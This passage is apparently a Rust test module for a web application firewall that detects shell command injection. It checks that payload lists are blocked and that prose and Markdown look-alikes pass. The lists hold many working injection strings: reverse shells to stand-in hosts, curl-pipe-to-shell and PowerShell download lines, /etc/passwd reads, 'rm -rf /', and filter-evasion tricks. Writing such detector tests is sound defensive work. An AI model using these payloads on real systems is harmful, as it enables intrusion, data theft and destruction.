            .header("content-type", "application/json")
            .body(())
            .unwrap()
            .into_parts();
        inspect(
            &crate::config::RouteWaf::default(),
            &Inspection {
                head: &head,
                path: "/orders",
                client_ip: "192.0.2.1".parse().unwrap(),
                body: if json {
                    BodyState::Buffered(body.as_bytes())
                } else {
                    BodyState::None
                },
            },
        )
    }

    /// Unset variables splitting command words, and redirections or a comment ending a
    /// command: blocked by this detector and by the whole engine, in a query and in JSON.
    const SPLIT_AND_REDIRECTED: &[&str] = &[
        "127.0.0.1;wh${u}oami",
        "x;i${u}d",
        "x;${u}id",
        "x;id$u",
        "x;i${u:-}d",
        "x;i${!u}d",
        "x;i${#u}d",
        "x$(i${u}d)",
        "x`wh${u}oami`",
        "x;c${u}url http://evil.example/x -o /tmp/x",
        "x|n${u}c -e /b${u}in/sh evil.example 4444",
        "x;sl${u}eep 10",
        "x;id>/var/www/html/o.txt",
        "x;sh</tmp/x",
        "x;bash<x",
        "x;id #",
        "x;id # rest",
        "x;id 2>&1",
        "x;ps aux",
        "x;cat</etc/passwd",
        "x;w'h'$u\"o\"ami",
    ];

    /// An unset variable standing as the first word of a command (the shell drops the empty
    /// word and runs the next one), after a separator, a substitution or a line break; and
    /// words split by unset variables or quotes after a line break. Blocked by this detector
    /// (as rule 1300) and by the whole engine, in a query and in JSON.
    const UNSET_FIRST_WORDS: &[&str] = &[
        "x;${u} id",
        "x;$u id",
        "x; ${u} id",
        "x;${u:-} id",
        "x;${u}${v} uname -a",
        "x;${u} ${v} whoami",
        "x;$u$v id",
        "x|${u} id",
        "x&&${u} whoami",
        "x||$u id",
        "$(${u} id)",
        "x`${u} id`",
        "x;${u}\tsleep 10",
        "x\n${u} id",
        "x\nwh${u}oami",
        "x\nw'h'oami",
        "127.0.0.1\n$u cat /etc/hosts",
    ];

    #[test]
    fn unset_expansions_before_the_command() {
        for v in UNSET_FIRST_WORDS {
            assert!(
                ids(v, 1).contains(&1300),
                "no 1300: {v:?} -> {:?}",
                ids(v, 1)
            );
            for json in [false, true] {
                let o = engine(v, json);
                assert!(o.blocked, "engine (json {json}) let through {v:?}");
            }
        }
        // `/etc/passwd` blocked already (traversal); the command now reads as one too.
        assert!(ids("x;${u}${v} cat /etc/passwd", 1).contains(&1300));
    }

    /// Commands quoted in prose, and look-alikes of the rules above.
    const PROSE: &[&str] = &[
        "Run `ls -la` to list the files",
        "Try `ping 8.8.8.8` first",
        "Steps to reproduce:\ncurl -X POST https://api.example.com/items\nExpected 200, got 500",
        "```\ntail -f app.log\n```",
        "```bash\ntail -f app.log\n```\nthen restart",
        "The host is down.\nping -c 4 example.com\nand nothing comes back",
        "Could you check?\nwhoami says root\nThanks",
        "$5 off",
        "Price: $10;",
        "C# / F#",
        "a > b",
        "x < 3",
        "#hashtag",
        "see #12",
        "Order shipped; id #4521 is late",
        "6-4; set #2 went to a tiebreak",
        "Tom & Jerry; users #growth",
        "azoem$ia",
        "US$5; ps: see you",
        "tom & jerry > all",
        "name\nid\nemail",
        "Hello ${name}, your id is ${id}",
        "Hello ${name}",
        "price: ${amount} USD",
        "Total: ${total}; ${count} items left",
        "Dear ${name},\n${count} items are waiting; ${link} to see them",
        "Order ${id} | ${status} set by ${user}",
        "(${amount} id cards)",
    ];

    #[test]
    fn split_words_and_redirections() {
        for v in SPLIT_AND_REDIRECTED {
            assert!(blocked(v), "not blocked: {v:?} -> {:?}", ids(v, 1));
            for json in [false, true] {
                let o = engine(v, json);
                assert!(o.blocked, "engine (json {json}) let through {v:?}");
            }
        }
    }

    #[test]
    fn prose_and_look_alikes() {
        for v in PROSE {
            assert!(!blocked(v), "blocked: {v:?} -> {:?}", ids(v, 1));
            for json in [false, true] {
                let o = engine(v, json);
                let r: Vec<u32> = o.findings.iter().map(|f| f.finding.rule).collect();
                assert!(!o.blocked, "engine (json {json}) blocked {v:?}: {r:?}");
            }
        }
        // Inline code and command lines in text are still paranoia-2 findings.
        assert!(ids("Run `ls -la` to list the files", 2).contains(&1316));
        assert!(ids("Try `ping 8.8.8.8` first", 2).contains(&1316));
        assert!(ids("The host is down.\nping -c 4 example.com\nthen", 2).contains(&1317));
        assert!(ids("```\ntail -f app.log\n```", 2).contains(&1317));
    }

    /// A backticked command after a space: what sets an injection apart from inline code in
    /// prose blocks at paranoia 1 (by the rule for what it does), the bare command does not,
    /// as the same shape is Markdown (paranoia 2, 1316). Pins the decision documented in
    /// `docs/waf.md`.
    #[test]
    fn backticked_commands_after_a_space() {
        for v in [
            "foo `$(id)`",
            "foo `id;uname`",
            "foo `curl http://evil.example/x | sh`",
            "foo `bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`",
            "foo `/usr/bin/id`",
            "foo `cat /etc/passwd`",
        ] {
            for json in [false, true] {
                assert!(
                    engine(v, json).blocked,
                    "engine (json {json}) let through {v:?}"
                );
            }
        }
        for v in [
            "foo `uname -a`",
            "Output of `uname -a` attached",
            "#### `which`",
            "I ran `make > /tmp/build.log 2>&1` and it failed",
        ] {
            for json in [false, true] {
                assert!(
                    !engine(v, json).blocked,
                    "engine (json {json}) blocked {v:?}"
                );
            }
        }
        assert!(ids("foo `uname -a`", 2).contains(&1316));
    }

    /// Markdown prose and documentation: code spans (a closing backtick glued to the word it
    /// closes, a code span opening a sentence, a command word before a code span), and Node's
    /// internals, `child_process` and Rust's `move` closures named or used as documentation
    /// does. None is blocked, by this detector or by the whole engine, in a query or in JSON.
    const MARKDOWN: &[&str] = &[
        "Writes `value` into `buf` at the given `offset`.",
        "`digest` set to `undefined` throws a `TypeError`.",
        "The `Hir` type in `regex-syntax` has a printer.",
        "If `strict` is `true`, the `file` option is ignored.",
        "* `id` {string} The user's `id` as returned by `who`.",
        "| `ping` | `true` | sends a `ping` frame |",
        "Each `Entry` has a `name` which refers to [`Dirent`][].",
        "`true` if the stream ended, `false` otherwise.",
        "`Host` header is required.",
        "`make`.",
        "`false`.",
        "`hostname`. The `addresses` argument lists them.",
        "`npm doctor` checks the registry.",
        "Set `NODE_ENV` before starting.",
        "Remove `Array::flatten`; make `const fn` work.",
        "Call `close()` when done; set `NODE_ENV` first.",
        "### DEP0111: `process.binding()`",
        "Deprecated: `process.binding('util')` and `process.binding('v8')`.",
        "### `process.binding(name)`",
        "## `process.mainModule`",
        "Use `child_process.execFile()` rather than `child_process.exec()`.",
        "The [`child_process.spawn()`][] method spawns a process.",
        "const { spawn } = require('node:child_process');",
        "thread::spawn(move || work(rx));",
        "let h = std::thread::spawn(move || {",
    ];

    /// The attacks the forms above are told apart from: a backticked command alone, glued to
    /// what precedes it or to more text, opening (by the shell's pairing) after other code
    /// spans; a command before a backticked command; Node's spawner loaded, called through
    /// `mainModule` or `process.binding`, with a computed name. Blocked by this detector (rule
    /// 1300 or 1307) and by the whole engine, in a query and in JSON.
    const NARROWED_ATTACKS: &[(&str, u32)] = &[
        // A backtick made literal by quotes, or escaped-looking by `\\`, does not break the
        // pairing (review of 5d3b94a).
        ("a'`'b`id`", 1300),
        ("'`';`id`", 1300),
        ("x\\\\`id`", 1300),
        // A command opening the value, then a separator or arguments: not prose.
        ("`id`;", 1300),
        ("`id`\nfoo", 1300),
        ("`id`", 1300),
        ("`true`", 1300),
        ("`cat /etc/passwd`", 1300),
        ("`whoami`.evil.example", 1300),
        ("'`id`'", 1300),
        ("=`id`", 1300),
        ("x`id`", 1300),
        ("a;`id`", 1300),
        ("a`b`c`id`", 1300),
        ("a `b` c`uname -a`", 1300),
        ("x\\`;`id`", 1300),
        ("id`whoami`", 1300),
        ("x; echo `id`", 1300),
        (";id `uname`", 1300),
        ("a;id`", 1300),
        ("require('child_process').exec(cmd)", 1307),
        ("const c=require('child_process');c.execSync(x)", 1307),
        ("import('child_process').then(m=>m.exec(x))", 1307),
        (
            "global.process.mainModule.constructor._load('child_process').exec(x)",
            1307,
        ),
        (
            "process.mainModule.require('child_process').execSync(x)",
            1307,
        ),
        ("process.mainModule['require']('child_process')", 1307),
        ("process.binding('spawn_sync').spawn(o)", 1307),
        ("process.binding(\"process_wrap\")", 1307),
        ("process.binding('spawn'+'_sync').spawn(o)", 1307),
        ("process.binding(atob('c3Bhd25fc3luYw=='))", 1307),
        ("spawn('/bin/sh', ['-c', 'id'])", 1307),
        ("exec('cat /etc/passwd')", 1307),
        ("spawn('move x y')", 1307),
    ];

    #[test]
    fn markdown_code_spans_and_named_apis_pass() {
        for v in MARKDOWN {
            assert!(!blocked(v), "blocked: {v:?} -> {:?}", ids(v, 1));
            for json in [false, true] {
                let o = engine(v, json);
                let r: Vec<u32> = o.findings.iter().map(|f| f.finding.rule).collect();
                assert!(!o.blocked, "engine (json {json}) blocked {v:?}: {r:?}");
            }
        }
    }

    #[test]
    fn narrowed_forms_still_block() {
        for (v, rule) in NARROWED_ATTACKS {
            assert!(
                ids(v, 1).contains(rule),
                "no {rule}: {v:?} -> {:?}",
                ids(v, 1)
            );
            for json in [false, true] {
                assert!(
                    engine(v, json).blocked,
                    "engine (json {json}) let through {v:?}"
                );
            }
        }
    }

    /// The shell pairs a value's backticks from its start: a closing one glued to a word
    /// starts nothing, an escaped one does not count.
    #[test]
    fn backticks_pair_from_the_start() {
        let shell = |v: &str| {
            let mut views = Views::new();
            views.load(v);
            views.get(View::Shell).to_string()
        };
        let found = |v: &str| backtick_substitution(&shell(v)).map(str::to_string);
        assert_eq!(found("x`id`").as_deref(), Some("`id`"));
        assert_eq!(found("`buf` at the `offset`"), None);
        assert_eq!(found("`a` b`c` at `d`"), None);
        assert_eq!(found("`a` b `c`d`id`").as_deref(), Some("`id`"));
        assert_eq!(found("`id`"), Some("`id`".to_string()));
        assert_eq!(found("`id` and more"), None);
        assert_eq!(found("`id`."), None);
        assert_eq!(found("`id`.evil.example").as_deref(), Some("`id`"));
    }

    #[test]
    fn backticks_and_line_breaks_that_stay_at_paranoia_1() {
        for v in [
            "x`id`",
            "a;`id`",
            "'`id`'",
            "`cat /etc/passwd`",
            "x\nid",
            "x%0aid",
            "x%0aid%0a",
            "127.0.0.1\ncat /etc/passwd",
            "127.0.0.1\r\nwhoami\r\n",
            "x\nid #",
            "x\nid\n# comment",
            "\nid\n",
            "a\nnetstat -an",
        ] {
            assert!(blocked(v), "not blocked: {v:?} -> {:?}", ids(v, 1));
        }
    }

    #[test]
    fn patterns_compile() {
        assert_eq!(SHELL.failed, 0);
        assert_eq!(DECODED.failed, 0);
        assert!(LITS.built());
        assert!(starts_with_command_word("cat /etc/passwd"));
        assert!(starts_with_command_word("Python3 -c x"));
        assert!(starts_with_command_word("ping.exe -n 1"));
        assert!(!starts_with_command_word("blue walking boots"));
    }

    #[test]
    fn rule_ids_are_in_block_and_unique() {
        let mut seen = std::collections::HashSet::new();
        for r in RULES {
            assert!((1300..1400).contains(&r.id));
            assert!(seen.insert(r.id));
            assert!((1..=4).contains(&r.paranoia));
        }
        assert!(RULES.len() <= 64);
    }

    #[test]
    fn attacks() {
        for v in [
            ";id",
            "; id",
            "a;id|",
            "|id|",
            "a)|/usr/bin/id",
            "/usr/bin/id",
            "`id`",
            "$(whoami)",
            "cat /etc/passwd",
            "ping -i 30 127.0.0.1",
            "& ping -n 30 127.0.0.1 &",
            "; /bin/sleep 31 ;",
            "ls -la /tmp",
            "uname -n -s",
            "dir c:\\",
            "&& dir c:/",
            "x\nid",
            "x\n/usr/bin/id\n",
            "\n/bin/ls -al\n",
            "; curl http://evil.example/x | sh",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "nc -e /bin/sh 10.0.0.1 4444",
            "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A",
            "IEX (New-Object Net.WebClient).DownloadString('http://x')",
            "cmd.exe /c whoami",
            "%COMSPEC% /c dir",
            "certutil -urlcache -split -f http://x/a.exe",
            "cat${IFS}/etc/passwd",
            "/???/??t /???/p??s??",
            ";system('id')",
            "<!--#exec cmd=\"/bin/cat /etc/passwd\"-->",
            "() { :; }; /bin/bash -c 'id'",
            "ping.exe -n 31 127.0.0.1",
            "; net user hacker P@ss /add",
            "`true`",
            "a`id`",
            "c'a't /etc/passwd",
            ";c\\at /etc/passwd",
            "{cat,/etc/passwd}",
            "%3Bid",
            "%253Bwhoami",
            "W'h'O'a'M'i;",
            "id;",
            "CMD=$'id';$CMD",
            "','')); phpinfo(); exit;/*",
        ] {
            assert!(blocked(v), "not blocked: {v:?} -> {:?}", ids(v, 1));
        }
    }

    #[test]
    fn benign() {
        for v in [
            "cat toys",
            "Ping me later",
            "Tom & Jerry",
            "python & ruby",
            "salt & pepper; cat lovers",
            "R&D department",
            "id",
            "sort=-name",
            "2024-01-02",
            "c/ caridad s/n",
            "https://example.com/bin/view/Main",
            "I love python; perl is fine too",
            "Raleigh; NC",
            "see (above)",
            "type 2 diabetes",
            "more info",
            "echo chamber",
            "net income - taxes",
            "set it to `true` to enable",
            "run `make` first",
            "Admins\nUsers\nGuests",
            "name\nid\nemail",
            "the operating system (which runs it)",
            "{\"action\": \"downloadFile\"}",
            "/docs/invoke-webrequest",
            "/api/cmd/c/list",
            "net user growth was strong",
            "install it to /usr/local/bin/mytool",
            "src/**/*.js",
        ] {
            assert!(!blocked(v), "blocked: {v:?} -> {:?}", ids(v, 1));
        }
    }

    /// A variable assigned, then run as a command with arguments: the shell view drops the
    /// expansion (it opens a command with more words, as an unset one does), the decoded view
    /// keeps it.
    #[test]
    fn variable_assigned_then_run_with_arguments() {
        for v in [
            "x=cat;$x /etc/hosts",
            "x=cat; $x /etc/hosts",
            "x=cat\n$x /etc/hosts",
            "q=1&x=cat;$x /tmp/a",
            "a=c;b=at;$a$b /etc/passwd",
            "x=curl;${x} http://evil.example/a",
            "c=rm;$c -rf /",
            "X=CAT;$X /ETC/HOSTS",
        ] {
            assert!(ids(v, 1).contains(&1313), "{v:?}: {:?}", ids(v, 1));
            for json in [false, true] {
                assert!(engine(v, json).blocked, "{v:?} json={json}");
            }
        }
        // A variable used as a word of text, or no assignment before it.
        for v in [
            "price=5; $10 off",
            "a=b; $c and $d are variables",
            "$x /etc/hosts",
            "total=$x /day",
        ] {
            assert!(!ids(v, 2).contains(&1313), "{v:?}: {:?}", ids(v, 2));
        }
    }
}
